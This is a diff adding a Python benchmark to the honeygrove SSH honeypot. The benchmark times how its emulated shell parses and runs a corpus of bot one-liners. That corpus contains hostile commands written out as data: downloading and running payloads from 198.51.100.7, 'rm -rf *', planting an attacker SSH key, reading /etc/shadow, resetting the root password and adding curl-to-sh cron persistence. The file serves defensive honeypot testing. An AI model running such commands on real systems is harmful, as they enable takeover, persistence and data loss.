@@ -0,0 +1,99 @@
+"""
+Benchmark for running command lines in the emulated SSH shell.
+
+Runs a corpus of one-liners as sent by bots (command lists, pipes and redirections)
+and compares parsing them with the former handling (str.split() and a getattr()
+lookup per line, which only saw the first command), then measures running them
+against the emulated filesystem.
+
+Usage: python3 -m benchmarks.shell [repetitions]
+"""
+from honeygrove.config import Config
+from honeygrove.core import ShellParser
+from honeygrove.core.FilesystemParser import FilesystemParser
+from honeygrove.services.SSHService import SSHProtocol
+
+import sys
+import time
+
+CORPUS = [
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; "
+    "sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "echo -e \"\\x41\\x4b\\x34\\x37\"",
+    "uname -a; cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnr"
+    "TOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+r"
+    "KJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4"
+    "Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys "
+    "&& chmod -R go= ~/.ssh && cd ~",
+    "ls -la /var/run/gcc.pid",
+    "cat /etc/passwd; cat /etc/shadow 2>/dev/null",
+    "pwd; whoami; ls -l /home",
+    "cd /tmp; wget -q http://198.51.100.7/x86 -O .x; chmod +x .x; ./.x ssh.root &",
+    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+    "echo \"root:WJKNeqBMPgeA\"|chpasswd|bash",
+    "ps -x | grep -v grep | grep miner > /dev/null 2>&1 || echo running",
+    "crontab -l ; echo '*/5 * * * * curl -fsSL http://198.51.100.7/c.sh | sh' >> /tmp/cron",
+    "mkdir -p /tmp/.x && cd /tmp/.x && touch a b c && ls",
+    "/bin/busybox ECCHI; enable; system; shell; sh; /bin/busybox ps; /bin/busybox cat /proc/mounts",
+    "echo ok",
+]
+
+
+class NullTerminal:
+    def write(self, data):
+        pass
+
+    def nextLine(self):
+        pass
+
+    def loseConnection(self):
+        pass
+
+
+class NullLog:
+    def __getattr__(self, name):
+        return lambda *args, **kwargs: None
+
+
+def before(protocol, lines):
+    for line in lines:
+        cmdAndArgs = line.split()
+        getattr(protocol, 'ssh_' + cmdAndArgs[0], None)
+
+
+def after(protocol, lines):
+    for line in lines:
+        for command in ShellParser.parse(line):
+            protocol.getCommandFunc(command.argv[0])
+
+
+if __name__ == '__main__':
+    repetitions = int(sys.argv[1]) if len(sys.argv) > 1 else 2000
+    lines = [line for line in CORPUS if 'wget' not in line] * repetitions
+
+    protocol = SSHProtocol()
+    protocol.terminal = NullTerminal()
+    protocol.log = NullLog()
+    protocol.service_name, protocol.remote, protocol.local_ip, protocol.local_port = "SSH", ("", 0), "", 22
+    protocol.user = type("User", (), {"username": "root"})
+    FilesystemParser.preload(Config.folder.filesystem)
+
+    commands = sum(len(ShellParser.parse(line)) for line in lines)
+    print("{} lines, {} commands (without downloads)".format(len(lines), commands))
+    for label, function in (("split", before), ("parse", after)):
+        start = time.perf_counter()
+        function(protocol, lines)
+        elapsed = time.perf_counter() - start
+        print("{:<10} {:>10.0f} lines/s {:>8.2f} us/line".format(label, len(lines) / elapsed,
+                                                                elapsed / len(lines) * 1e6))
+
+    # Every run starts with an unmodified filesystem, like a new session
+    start = time.perf_counter()
+    for i in range(0, len(lines), len(CORPUS)):
+        protocol._parser = FilesystemParser(Config.folder.filesystem)
+        for line in lines[i:i + len(CORPUS)]:
+            protocol.run_command_line(line)
+    elapsed = time.perf_counter() - start
+    print("{:<10} {:>10.0f} lines/s {:>8.2f} us/line".format("run", len(lines) / elapsed, elapsed / len(lines) * 1e6))